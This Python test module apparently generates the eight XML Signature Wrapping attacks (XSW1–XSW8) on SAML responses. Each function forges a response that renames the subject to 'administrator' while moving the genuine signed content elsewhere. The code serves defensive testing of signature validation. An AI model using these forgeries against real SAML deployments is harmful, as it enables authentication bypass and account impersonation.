"""Signature wrapping attacks on SAML responses, the eight of the literature, and other ways to change what is signed.

Somorovsky and others, "On Breaking SAML: Be Whoever You Want to Be" (USENIX Security 2012), section 4; the numbering
is the one that testing tools use (XSW1 to XSW8).
"""

from __future__ import annotations

import copy
from collections.abc import Callable, Mapping

from lxml import etree
from tests.idp import DS, SAML, SAMLP

EVIL = "administrator"


def _parts(response: bytes) -> tuple[etree._Element, etree._Element]:
    """The response and its assertion."""
    root = etree.fromstring(response)
    assertion = root.find(SAML + "Assertion")
    assert assertion is not None
    return root, assertion


def _evil(element: etree._Element, id: str) -> etree._Element:
    """A copy of a response or assertion that says something else, under another id, without a signature."""
    made = copy.deepcopy(element)
    for signature in list(made.iter(DS + "Signature")):
        parent = signature.getparent()
        assert parent is not None
        parent.remove(signature)
    made.set("ID", id)
    for name in made.iter(SAML + "NameID"):
        name.text = EVIL
    return made


def _signature(element: etree._Element) -> etree._Element:
    found = element.find(DS + "Signature")
    assert found is not None
    return found


def _bare(element: etree._Element) -> etree._Element:
    """A copy as it was signed: without its signature."""
    made = copy.deepcopy(element)
    made.remove(_signature(made))
    return made


def xsw1(response: bytes) -> bytes:
    """For signed responses: an evil response around the signature, the true one behind it in the signature."""
    root, _ = _parts(response)
    evil = _evil(root, "_evil")
    signature = copy.deepcopy(_signature(root))
    signature.append(_bare(root))
    evil.append(signature)
    return etree.tostring(evil)


def xsw2(response: bytes) -> bytes:
    """For signed responses: as xsw1, the true response before a detached signature."""
    root, _ = _parts(response)
    evil = _evil(root, "_evil")
    evil.append(_bare(root))
    evil.append(copy.deepcopy(_signature(root)))
    return etree.tostring(evil)


def xsw3(response: bytes) -> bytes:
    """For signed assertions: an evil assertion before the true one."""
    root, assertion = _parts(response)
    assertion.addprevious(_evil(assertion, "_evil"))
    return etree.tostring(root)


def xsw4(response: bytes) -> bytes:
    """For signed assertions: the true assertion within an evil one."""
    root, assertion = _parts(response)
    evil = _evil(assertion, "_evil")
    root.replace(assertion, evil)
    evil.append(assertion)
    return etree.tostring(root)


def xsw5(response: bytes) -> bytes:
    """For signed assertions: the signed one changed, its true copy without the signature at the end."""
    root, assertion = _parts(response)
    root.append(_bare(assertion))
    assertion.set("ID", "_evil")
    for name in assertion.iter(SAML + "NameID"):
        name.text = EVIL
    return etree.tostring(root)


def xsw6(response: bytes) -> bytes:
    """For signed assertions: the signed one changed, its true copy inside the signature."""
    root, assertion = _parts(response)
    true = _bare(assertion)
    assertion.set("ID", "_evil")
    for name in assertion.iter(SAML + "NameID"):
        name.text = EVIL
    _signature(assertion).append(true)
    return etree.tostring(root)


def xsw7(response: bytes) -> bytes:
    """For signed assertions: an evil one in Extensions, which schemas let hold anything."""
    root, assertion = _parts(response)
    extensions = etree.Element(SAMLP + "Extensions")
    extensions.append(_evil(assertion, assertion.get("ID") or ""))
    assertion.addprevious(extensions)
    return etree.tostring(root)


def xsw8(response: bytes) -> bytes:
    """For signed assertions: the signed one changed, its true copy in an Object of the signature."""
    root, assertion = _parts(response)
    true = _bare(assertion)
    assertion.set("ID", "_evil")
    for name in assertion.iter(SAML + "NameID"):
        name.text = EVIL
    etree.SubElement(_signature(assertion), DS + "Object").append(true)
    return etree.tostring(root)


RESPONSE_ATTACKS: Mapping[str, Callable[[bytes], bytes]] = {"xsw1": xsw1, "xsw2": xsw2}
ASSERTION_ATTACKS: Mapping[str, Callable[[bytes], bytes]] = {
    each.__name__: each for each in (xsw3, xsw4, xsw5, xsw6, xsw7, xsw8)
}
